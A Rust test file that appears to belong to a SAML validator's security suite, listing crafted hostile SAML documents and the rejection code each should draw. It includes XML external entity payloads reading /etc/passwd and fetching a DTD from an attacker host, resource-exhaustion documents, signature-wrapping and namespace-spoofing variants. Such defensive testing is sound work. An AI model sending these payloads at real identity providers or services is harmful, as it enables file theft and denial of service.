//! Kinds 2 and 13 again: declarations in the place of attributes, and documents whose only purpose is to cost time. The second
//! sort is refused before a parser sees it, or is cheap; `cargo xtask bench saml` measures how cheap.

use super::{Attack, attack};
use crate::setup::Setup;
use crate::signer::Style;

const SIGNED_ASSERTION: &str = "simplesamlphp/signed_assertion";

pub(super) const ATTACKS: &[Attack] = &[
    attack(2, "xmlns:Value instead of Value", "saml.status_not_success", || {
        change("<samlp:StatusCode Value=\"urn", "<samlp:StatusCode xmlns:Value=\"urn")
    }),
    attack(2, "xmlns:Version instead of Version", "saml.version_unsupported", || change(" Version=\"2.0\"", " xmlns:Version=\"urn:2.0\"")),
    attack(2, "xmlns:Method instead of Method", "saml.bearer_missing", || Setup::edited(" Method=\"urn", " xmlns:Method=\"urn")),
    attack(2, "xmlns:NotOnOrAfter instead of NotOnOrAfter", "saml.xml_namespace_invalid", || {
        Setup::edited("Data NotOnOrAfter=\"2026", "Data xmlns:NotOnOrAfter=\"2026")
    }),
    attack(2, "xmlns:Algorithm beside the algorithm", "saml.digest_mismatch", || {
        let mut setup = Setup::fresh().sign("_a");
        setup.replace(">alice<", ">admin<");
        setup.replace("<ds:DigestMethod ", "<ds:DigestMethod xmlns:Algorithm=\"http://www.w3.org/2000/09/xmldsig#sha1\" ");
        setup
    }),
    attack(2, "an attribute of another namespace", "saml.destination_missing", || {
        change(" Destination=", " xmlns:e=\"urn:e\" e:Destination=")
    }),
    attack(13, "eighty thousand attributes", "saml.too_large", || attributes(80_000)),
    attack(13, "as many attributes as fit", "saml.too_many_attributes", || attributes(25_000)),
    attack(13, "one attribute too many", "saml.too_many_attributes", || attributes(65)),
    attack(13, "attributes in the signed part", "saml.too_many_attributes", || {
        let attributes = (0..65).fold(String::new(), |text, number| text + &format!(" a{number}=\"\""));
        change("<saml:Subject>", &format!("<saml:Subject{attributes}>"))
    }),
    attack(13, "attributes in an end tag", "saml.xml_malformed", || {
        let attributes = (0..65).fold(String::new(), |text, number| text + &format!(" a{number}=\"\""));
        change("</saml:Subject>", &format!("</saml:Subject{attributes}>"))
    }),
    attack(13, "eighty thousand levels", "saml.too_deep", || change("<samlp:Status>", &format!("{}<samlp:Status>", "<a>".repeat(80_000)))),
    attack(13, "forty-one levels", "saml.too_deep", || {
        change("<samlp:Status>", &format!("{}{}<samlp:Status>", "<a>".repeat(41), "</a>".repeat(41)))
    }),
    attack(13, "levels hidden behind a quote", "saml.too_deep", || {
        change("<samlp:Status>", &format!("<a b='>'>{}<samlp:Status>", "<a>".repeat(1_000)))
    }),
    attack(13, "eighty thousand empty elements", "saml.too_large", || whole_of("<a/>", 80_000)),
    attack(13, "as many empty elements as fit", "saml.too_many_nodes", || {
        change("<samlp:Status>", &format!("{}<samlp:Status>", "<a/>".repeat(60_000)))
    }),
    attack(13, "as many references to characters as fit", "saml.status_not_success", || {
        change("<samlp:StatusCode Value=\"", &format!("<samlp:StatusCode Value=\"{}", "&#65;".repeat(48_000)))
    }),
    attack(13, "eleven prefixes to look up", "saml.signature_malformed", || {
        Setup::fresh().sign_with("_a", &Style { prefixes: Some("a b c d e f g h i j k"), ..Style::default() })
    }),
    attack(5, "two byte order marks", "saml.xml_malformed", || {
        let mut setup = Setup::fresh().sign("_a");
        setup.xml.insert_str(0, "\u{feff}\u{feff}");
        setup
    }),
    attack(5, "a line end in an attribute value", "saml.xml_malformed", || change(" Name=\"", " Name=\"\n")),
    attack(5, "a tab in an attribute value that was signed as a reference", "saml.xml_malformed", || {
        let mut setup = Setup::edited(" Name=\"groups\"", " Name=\"gr&#9;oups\"");
        setup.replace("&#9;", "\t");
        setup
    }),
    attack(7, "a namespace name with a broken escape", "saml.xml_namespace_invalid", || namespace("http://x.test/%zz")),
    attack(7, "a namespace name with a bracket", "saml.xml_namespace_invalid", || namespace("http://[::1]/")),
    attack(7, "a namespace name with a brace", "saml.xml_namespace_invalid", || namespace("urn:{x}")),
    attack(7, "a namespace name with two fragments", "saml.xml_namespace_invalid", || namespace("urn:x#a#b")),
    attack(7, "a namespace name with no host", "saml.xml_namespace_invalid", || namespace("http://:80/")),
    attack(7, "a namespace name with a port that is none", "saml.xml_namespace_invalid", || namespace("http://x.test:port/")),
    attack(7, "a namespace name with no scheme", "saml.xml_namespace_invalid", || namespace("1:x")),
    attack(13, "an external entity", "saml.dtd_forbidden", || {
        let mut setup = Setup::capture(SIGNED_ASSERTION);
        setup.xml.insert_str(0, r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#);
        setup.replace("alice@example.com", "&x;");
        setup
    }),
    attack(13, "an external entity of parameters", "saml.dtd_forbidden", || {
        let mut setup = Setup::capture(SIGNED_ASSERTION);
        setup.xml.insert_str(0, r#"<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.test/x.dtd"> %x;]>"#);
        setup
    }),
    attack(13, "a document type of another case", "saml.dtd_forbidden", || {
        let mut setup = Setup::capture(SIGNED_ASSERTION);
        setup.xml.insert_str(0, "<!doctype r>");
        setup
    }),
    attack(13, "a comment without an end", "saml.comment_forbidden", || change("<samlp:Status>", "<!-- <samlp:Status>")),
    attack(13, "a CDATA section without an end", "saml.cdata_forbidden", || change("<samlp:Status>", "<![CDATA[<samlp:Status>")),
    attack(13, "nothing but tags that begin", "saml.xml_malformed", || nothing_but("<a ", 80_000)),
    attack(13, "nothing but brackets", "saml.xml_malformed", || nothing_but("<", 250_000)),
    attack(13, "nothing but ampersands", "saml.xml_malformed", || nothing_but("&", 250_000)),
    attack(13, "no characters", "saml.xml_malformed", || nothing_but("", 0)),
    attack(13, "a thousand signatures", "saml.several_signatures", || {
        let signature = Setup::fresh().sign("_a").element("ds:Signature");
        let short = signature.replace(&element(&signature, "ds:SignedInfo"), "").replace(&element(&signature, "ds:SignatureValue"), "");
        change("<saml:Subject>", &format!("{}<saml:Subject>", short.repeat(1_000)))
    }),
    attack(13, "a thousand audiences", "saml.audience_mismatch", || {
        Setup::edited(
            "<saml:Audience>https://gw.test/sp</saml:Audience>",
            &"<saml:Audience>https://other.test</saml:Audience>".repeat(1_000),
        )
    }),
    attack(13, "a thousand confirmations", "saml.bearer_missing", || {
        let mut setup = Setup::fresh();
        let confirmation = setup.element("saml:SubjectConfirmation");
        setup.replace(&confirmation, &confirmation.replace("bearer", "holder-of-key").repeat(400));
        setup.sign("_a")
    }),
];

fn element(xml: &str, tag: &str) -> String {
    crate::setup::element_of(xml, tag)
}

fn change(from: &str, to: &str) -> Setup {
    let mut setup = Setup::capture(SIGNED_ASSERTION);
    setup.replace_first(from, to);
    setup
}

fn namespace(name: &str) -> Setup {
    change("<saml:Subject>", &format!("<saml:Subject xmlns:x=\"{name}\">"))
}

fn attributes(count: usize) -> Setup {
    let attributes = (0..count).fold(String::new(), |text, number| text + &format!(" a{number}=\"\""));
    change("<samlp:Status>", &format!("<samlp:Status{attributes}>"))
}

fn whole_of(piece: &str, count: usize) -> Setup {
    change("<samlp:Status>", &format!("{}<samlp:Status>", piece.repeat(count)))
}

fn nothing_but(piece: &str, count: usize) -> Setup {
    let mut setup = Setup::capture(SIGNED_ASSERTION);
    setup.xml = piece.repeat(count);
    setup
}
